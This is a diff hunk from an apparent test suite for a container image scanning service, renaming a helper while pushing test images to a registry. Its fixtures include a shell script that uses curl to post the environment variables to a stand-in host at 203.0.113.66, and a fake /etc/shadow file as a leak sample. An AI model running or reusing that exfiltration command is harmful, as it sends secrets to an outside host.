@@ -234,12 +234,12 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
       content: '#!/bin/sh\ncurl -s -d "$(env)" http://203.0.113.66/upload\n',
     };
     const leak: TarEntry = { path: 'etc/shadow', content: 'root::19000:0:99999:7:::\n', mode: 0o640 };
-    const labelled = (layer: TarEntry[]) => ({ layers: [base, layer], config: {} });
-    const before = await push(registry, 'lines/app:2.0.0', labelled([...app, leak]));
+    const labeled = (layer: TarEntry[]) => ({ layers: [base, layer], config: {} });
+    const before = await push(registry, 'lines/app:2.0.0', labeled([...app, leak]));
     await evaluated('lines/app', before);
-    await push(registry, 'lines/app:2.0.0-slim', labelled([app[0]!]));
+    await push(registry, 'lines/app:2.0.0-slim', labeled([app[0]!]));
     await until('the first release is announced', () => messagesAbout('lines/app').length > 0);
-    const after = await push(registry, 'lines/app:2.0.1', labelled([...app, leak, tool]));
+    const after = await push(registry, 'lines/app:2.0.1', labeled([...app, leak, tool]));
     const { id } = await evaluated('lines/app', after);
     const baseline = { tag: '2.0.0', digest: before, reason: 'previous-version', line: '2.0' };
     expect(await tidewaiter.api(`/pushes/${id}`)).toMatchObject({ previousDigest: null, comparedWith: baseline });
